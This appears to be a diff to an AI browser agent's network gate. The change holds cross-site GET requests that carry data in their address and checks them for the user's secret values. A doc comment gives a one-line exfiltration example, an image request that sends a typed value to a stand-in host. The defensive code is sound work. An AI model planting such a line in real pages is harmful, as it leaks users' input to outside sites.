@@ -8,6 +8,13 @@
 //! the user approves it now, shown as it is; else it is failed and the
 //! call reports what was blocked.
 //!
+//! A read (GET) is held too when it goes to another site than the page's
+//! with something in its address: it is graded for the user's values
+//! only, so a page that forwards what was typed into it (`new Image().src
+//! = "https://elsewhere/?v=" + value`) sends nothing unasked. The values
+//! the user gave the page's own site in this action (typed, approved) may
+//! go back to that site.
+//!
 //! The user's answer is awaited while the action's own work goes on (its
 //! navigation wait), so a held form POST does not stall the page's other
 //! requests. Requests a page sends later than [`QUIET`] after the action
@@ -23,8 +30,9 @@ use crate::browser::wire::{Outgoing, Verdict, WireWatch};
 use crate::error::{Error, ErrorCode, Result};
 use crate::gate::action::{Action, ElementFacts, SecretValue};
 use crate::gate::check::Checked;
-use crate::gate::wire::{WireRequest, classify_request};
+use crate::gate::wire::{WireRequest, classify_request, not_given};
 use crate::tools::PermissionScope;
+use crate::vocab::origin::same_site;
 
 /// After the action's work ended, requests are held until none came for this long.
 const QUIET: Duration = Duration::from_millis(300);
@@ -40,10 +48,13 @@ pub(super) async fn guarded<T>(
     tab: &TabHandle,
     tool: BrowserTool,
     approved: Option<String>,
+    given: &[String],
     work: impl Future<Output = Result<T>>,
 ) -> Result<T> {
-    let mut wire = WireWatch::start(tab).await?;
     let (page_url, _) = page::url_and_title(tab).await;
+    let home = page_url.clone();
+    let hold_read = move |url: &str| carries_elsewhere(url, &home);
+    let mut wire = WireWatch::start(tab, hold_read).await?;
     let (done_tx, mut done_rx) = tokio::sync::oneshot::channel::<()>();
     let work = async move {
         let out = work.await;
@@ -67,10 +78,13 @@ pub(super) async fn guarded<T>(
                     let secrets = secrets
                         .get_or_init(|| async { call.ctx.gate.secrets().await.unwrap_or_default() })
                         .await;
-                    let (verdict, why) = judge(call, tool, &page_url, secrets, &mut approved, &held).await;
+                    let (verdict, why) = judge(call, tool, &page_url, secrets, given, &mut approved, &held).await;
                     wire.decide(&held, verdict).await;
                     blocked.extend(why);
-                    if let Some((since, _)) = quiet.as_mut() {
+                    // A read does not keep the window open (a page polling
+                    // another site would hold every action to the cap).
+                    let reads = matches!(held.method.as_str(), "GET" | "HEAD" | "OPTIONS") && held.body.is_none();
+                    if !reads && let Some((since, _)) = quiet.as_mut() {
                         *since = Instant::now();
                     }
                 }
@@ -99,12 +113,24 @@ pub(super) async fn guarded<T>(
     out
 }
 
+/// A read worth holding: to another site than the page's (`home`), with
+/// something in its address that could be data (a query, or a path past
+/// a file name).
+fn carries_elsewhere(url: &str, home: &str) -> bool {
+    let Ok(u) = url::Url::parse(url) else { return false };
+    if !matches!(u.scheme(), "http" | "https" | "ws" | "wss") || (!home.is_empty() && same_site(url, home)) {
+        return false;
+    }
+    u.query().is_some_and(|q| !q.is_empty()) || u.path().len() > 1
+}
+
 /// What becomes of one held request, and why, when it is blocked.
 async fn judge(
     call: &Call<'_>,
     tool: BrowserTool,
     page_url: &str,
     secrets: &[SecretValue],
+    given: &[String],
     approved: &mut Option<String>,
     held: &Outgoing,
 ) -> (Verdict, Option<String>) {
@@ -115,7 +141,8 @@ async fn judge(
         return (Verdict::Continue, None);
     }
     let page = (!page_url.is_empty()).then_some(page_url);
-    if classify_request(&request, page, secrets).scope < PermissionScope::Submit {
+    let secrets = not_given(secrets, given, &request.url, page);
+    if classify_request(&request, page, &secrets).scope < PermissionScope::Submit {
         return (Verdict::Continue, None);
     }
     let shown = format!("{} {}", request.method, request.url);
